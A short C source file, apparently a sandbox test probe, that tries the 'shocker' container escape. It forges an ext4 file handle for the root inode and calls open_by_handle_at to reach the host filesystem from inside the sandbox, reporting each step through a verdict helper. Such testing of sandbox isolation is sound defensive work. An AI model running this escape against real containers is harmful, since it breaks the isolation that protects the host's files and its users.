// The "shocker" escape: open_by_handle_at opens any inode of a filesystem by its handle, bypassing the
// mount the sandbox sees. Guessing the handle of the filesystem's root (inode 2 on ext4) reaches every
// file on the host's disk.
#include "verdict.h"

#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>

int main(void) {
  struct file_handle *handle = malloc(sizeof *handle + MAX_HANDLE_SZ);
  handle->handle_bytes = MAX_HANDLE_SZ;
  int mount_id = 0;
  if (name_to_handle_at(AT_FDCWD, ".", handle, &mount_id, 0) != 0) {
    verdict_of("name-to-handle", -1);
    return 0;
  }
  int mount_fd = open(".", O_RDONLY | O_DIRECTORY);
  verdict_of("open-own-handle", open_by_handle_at(mount_fd, handle, O_RDONLY));

  // ext4's handle: the 32-bit inode number and generation; inode 2 is the filesystem's root directory.
  unsigned int root_inode[2] = {2, 0};
  memcpy(handle->f_handle, root_inode, sizeof root_inode);
  handle->handle_bytes = sizeof root_inode;
  handle->handle_type = 1;
  verdict_of("open-filesystem-root", open_by_handle_at(mount_fd, handle, O_RDONLY | O_DIRECTORY));
  return 0;
}
